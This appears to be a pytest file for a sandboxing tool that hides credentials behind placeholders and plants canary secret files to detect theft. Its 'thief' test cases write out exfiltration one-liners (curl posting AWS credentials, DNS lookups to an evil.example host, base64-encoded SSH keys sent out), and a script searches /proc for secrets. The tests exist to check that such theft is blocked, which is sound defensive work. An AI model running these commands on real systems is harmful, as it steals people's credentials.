"""Secrets stay outside a real sandbox, wherever one looks inside; canaries lie where thieves do."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest

from tests.boundary.field import wait_for
from tests.capabilities import needs
from tests.gateway.secure import Service, serving
from tests.real.support import left_of

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.conftest import Person

pytestmark = needs("bubblewrap", "git", "curl")

SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
ALARMED = 126
_MARK = "# Of the test:\n"
# Every variable, command line and file that anybody inside can read, this search's own pattern apart.
SEARCH = """
half=$(printf %s "$1" | cut -c 1-20); rest=$(printf %s "$1" | cut -c 21-)
pattern="$(printf %s "$half" | sed 's/^./[&]/')$rest"
grep -alE "$pattern" /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/mountinfo /proc/keys 2>/dev/null
grep -ralE "$pattern" --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr / 2>/dev/null
env | grep -E "$pattern"
echo searched
"""


@pytest.fixture
def service() -> Iterator[Service]:
    with serving(None) as made:
        yield made


def policy(person: Person, text: str) -> None:
    place = person.home / ".config/paddock/policy.toml"
    place.parent.mkdir(parents=True, exist_ok=True)
    own = place.read_text().partition(_MARK)[0] if place.exists() else ""  # which boundary it is, where a test says so
    place.write_text(own + _MARK + text)
    place.chmod(0o600)


def read(service: Service) -> str:
    """A service of this machine as a policy names it, with its requests read and not passed on raw."""
    return f'{{ host = "host", port = {service.port}, raw = false }}'


def bind(person: Person, service: Service, source: str = "env:GITHUB_TOKEN", more: str = "") -> None:
    policy(
        person,
        f"""
[network]
mode = "allow"
{more}
[credentials.github]
source = "{source}"
variables = ["GITHUB_TOKEN"]
hosts = ["host:{service.port}"]
""",
    )


def run(person: Person, repo: Path, script: str, *words: str, **environ: Any) -> subprocess.CompletedProcess[str]:
    return person.call("run", "--", "sh", "-c", script, "sh", *words, cwd=repo, **environ)


def shown(service: Service) -> list[str]:
    return [dict(headers).get("Authorization", "") for _, headers, _ in service.seen]


def test_the_service_gets_the_secret_and_the_command_has_a_placeholder(
    person: Person, repo: Path, service: Service
) -> None:
    bind(person, service)
    script = f'echo "$GITHUB_TOKEN"; curl -s -H "Authorization: Bearer $GITHUB_TOKEN" http://host:{service.port}/'
    done = run(person, repo, script, GITHUB_TOKEN=SECRET)
    assert done.returncode == 0, done.stderr
    placeholder = done.stdout.split("\n")[0]
    assert placeholder.startswith("ghp_")
    assert len(placeholder) == len(SECRET)
    assert shown(service) == [f"Bearer {SECRET}"]
    assert SECRET not in done.stdout + done.stderr, "what the service echoes comes back as the placeholder"


def test_the_secret_is_nowhere_inside(person: Person, repo: Path, service: Service) -> None:
    bind(person, service)
    # The search finds what is there: the same value under another name.
    found = person.call("run", "--env", f"OTHER={SECRET}", "--", "sh", "-c", SEARCH, "sh", SECRET, cwd=repo)
    assert "/environ" in found.stdout
    # The pattern comes in two halves, so that the search does not find itself.
    done = run(person, repo, SEARCH.replace('"$1"', '"$1$2"'), SECRET[:20], SECRET[20:], GITHUB_TOKEN=SECRET)
    assert done.stdout == "searched\n", done.stderr


def test_the_secret_is_in_no_file_of_the_persons_afterwards(person: Person, repo: Path, service: Service) -> None:
    bind(person, service)
    script = f'touch new; curl -s -H "Authorization: Bearer $GITHUB_TOKEN" http://host:{service.port}/'
    assert run(person, repo, script, GITHUB_TOKEN=SECRET).returncode == 0
    assert shown(service) == [f"Bearer {SECRET}"]
    for directory, _, names in os.walk(person.home):
        for name in names:
            with open(os.path.join(directory, name), "rb") as file:
                assert SECRET.encode() not in file.read(), f"{directory}/{name}"


def test_a_live_sandbox_is_described_and_entered_with_placeholders(
    person: Person, repo: Path, service: Service
) -> None:
    bind(person, service)
    arguments = ("run", "--keep", "--name", "kept", "--", "sh", "-c", 'echo "$GITHUB_TOKEN"')
    first = person.call(*arguments, cwd=repo, GITHUB_TOKEN=SECRET)
    try:
        assert first.stdout.startswith("ghp_"), first.stderr
        later = person.call("exec", "kept", "--", "sh", "-c", 'echo "$GITHUB_TOKEN"', cwd=repo, GITHUB_TOKEN=SECRET)
        assert later.stdout == first.stdout
        runtime = person.home / "runtime"
        described = [path.read_bytes() for path in runtime.rglob("*") if path.is_file()]
        assert any(first.stdout.strip().encode() in content for content in described)
        assert not any(SECRET.encode() in content for content in described)
        given = person.call("exec", "kept", "--env", f"GITHUB_TOKEN={SECRET}", "--", "true", cwd=repo)
        assert given.returncode == 126
        assert "keeps it outside" in given.stderr
        assert SECRET not in given.stderr
    finally:
        person.call("kill", "kept", cwd=repo)


def test_without_a_secret_the_variable_is_not_set(person: Person, repo: Path, service: Service) -> None:
    bind(person, service)
    done = run(person, repo, 'echo "${GITHUB_TOKEN-unset}"')
    assert done.stdout == "unset\n"
    assert "GITHUB_TOKEN stays unset: credential github (person" in done.stderr


def test_no_flag_brings_the_value_in(person: Person, repo: Path, service: Service) -> None:
    bind(person, service)
    for flag in ("GITHUB_TOKEN", f"GITHUB_TOKEN={SECRET}"):
        done = person.call(
            "run", "--env", flag, "--", "sh", "-c", 'echo "$GITHUB_TOKEN"', cwd=repo, GITHUB_TOKEN=SECRET
        )
        assert done.stdout.startswith("ghp_")
        assert SECRET not in done.stdout
        assert "keeps it outside" in done.stderr


def test_nothing_is_fetched_without_a_network(person: Person, repo: Path, service: Service) -> None:
    bind(person, service, source="command:false")
    done = person.call("run", "--net", "off", "--", "sh", "-c", 'echo "${GITHUB_TOKEN-unset}"', cwd=repo)
    assert (done.returncode, done.stdout) == (0, "unset\n"), done.stderr


def test_a_source_that_fails_stops_the_start_and_says_what_to_do(person: Person, repo: Path, service: Service) -> None:
    tool = person.home / "bin/op"
    tool.parent.mkdir()
    tool.write_text("#!/bin/sh\necho 'vault is locked' >&2\nexit 3\n")
    tool.chmod(0o755)
    bind(person, service, source="command:op read op://x/y")
    done = run(person, repo, "echo started", PATH=f"{tool.parent}:{person.environ['PATH']}")
    assert (done.returncode, done.stdout) == (125, "")
    assert "op gave no secret" in done.stderr
    assert "vault is locked" in done.stderr
    assert "try it: op read op://x/y" in done.stderr


def test_a_placeholder_that_is_sent_elsewhere_is_refused(person: Person, repo: Path, service: Service) -> None:
    with serving(None) as other:
        bind(person, service, more=f"allow = [{read(other)}]")
        script = f'curl -s -o /dev/null -w "%{{http_code}}" -d "$GITHUB_TOKEN" http://host:{other.port}/'
        done = run(person, repo, script, GITHUB_TOKEN=SECRET)
        assert done.stdout == "403"
        assert other.seen == []


class TestCanaries:
    def plant(self, person: Person, service: Service, kinds: str) -> None:
        policy(
            person,
            f'[workspace]\ncanaries = {kinds}\n[network]\nmode = "allow"\nallow = [{read(service)}]\n',
        )

    def test_they_look_like_files_of_the_persons_own(self, person: Person, repo: Path, service: Service) -> None:
        self.plant(person, service, '["aws", "ssh", "env"]')
        script = "cat ~/.aws/credentials ~/.env; head -1 ~/.ssh/id_ed25519; stat -c %a ~/.ssh/id_ed25519; rm ~/.env && echo gone"
        done = run(person, repo, script)
        assert "aws_access_key_id = AKIA" in done.stdout, done.stderr
        assert "STRIPE_SECRET_KEY=sk_live_" in done.stdout
        assert done.stdout.endswith("-----BEGIN OPENSSH PRIVATE KEY-----\n600\ngone\n")

    def test_one_is_seen_in_place_of_a_masked_file_and_in_no_change_set(
        self, person: Person, repo: Path, service: Service
    ) -> None:
        (repo / ".env").write_text("REAL=1\n")
        self.plant(person, service, '["env"]')
        done = run(person, repo, "cat .env; touch other")
        assert done.stdout.startswith("STRIPE_SECRET_KEY=sk_live_")
        assert "REAL" not in done.stdout
        assert (repo / ".env").read_text() == "REAL=1\n"
        changes = json.loads(person.call("changes", "--json", cwd=repo).stdout)
        assert "sk_live_" not in person.call("diff", cwd=repo).stdout
        assert ".env" not in json.dumps(changes)

    @pytest.mark.parametrize(
        "thief",
        [
            "curl -s -d @$HOME/.aws/credentials http://host:PORT/",
            "getent hosts $(sed -n 's/.*key_id = //p' ~/.aws/credentials).evil.example",
            "curl -s http://host:PORT/?k=$(base64 -w0 ~/.ssh/id_ed25519 | tr +/ -_)",
            "curl -s -H \"X: $(cut -d= -f2 ~/.env | od -An -tx1 | tr -d ' \\n')\" http://host:PORT/",
        ],
    )
    def test_sending_one_out_ends_the_session(self, person: Person, repo: Path, service: Service, thief: str) -> None:
        self.plant(person, service, '["aws", "ssh", "env"]')
        done = run(person, repo, f"{thief.replace('PORT', str(service.port))}; sleep 90; echo went on")
        assert done.returncode == ALARMED, done.stderr
        assert "went on" not in done.stdout
        assert "canary" in done.stderr
        assert service.seen == []

    def test_without_a_network_there_are_none(self, person: Person, repo: Path, service: Service) -> None:
        self.plant(person, service, '["aws"]')
        done = person.call("run", "--net", "off", "--", "sh", "-c", "ls -A ~/.aws 2>/dev/null; echo none", cwd=repo)
        assert done.stdout == "none\n"


RENEWED = """
import sys
from paddock import planning, session
from paddock.frozen import replace
plan = planning.make_plan(".", sys.argv[1:], None, terminal=False)
# A policy allows no less than ten seconds, for which no test waits.
plan = replace(plan, credentials=tuple(replace(each, ttl_s=0.2) for each in plan.credentials))
sys.exit(session.run(plan).exit_code)
"""


def test_a_secret_is_fetched_anew_while_the_command_runs(person: Person, repo: Path, service: Service) -> None:
    tool = person.home / "bin/op"
    tool.parent.mkdir()
    tool.write_text(
        f"#!/bin/sh\necho x >> {person.home}/times\necho real-secret-number-$(wc -l < {person.home}/times)\n"
    )
    tool.chmod(0o755)
    bind(person, service, source="command:op read")
    ask = f'curl -s -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" http://host:{service.port}/'
    script = f"while :; do {ask}; sleep 0.1; done & read line; kill $!"
    with subprocess.Popen(
        [sys.executable, "-c", RENEWED, "sh", "-c", script],
        cwd=repo,
        env={**person.environ, "PATH": f"{tool.parent}:{person.environ['PATH']}"},
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as process:
        wait_for(lambda: process.poll() is not None or len(set(shown(service))) >= 3)
        told = process.communicate("enough\n", timeout=120)[1]
    assert process.returncode == 0, told
    assert len(set(shown(service))) >= 3
    assert all(each.startswith("Bearer real-secret-number-") for each in shown(service))
    assert left_of(f"http://host:{service.port}/") == []
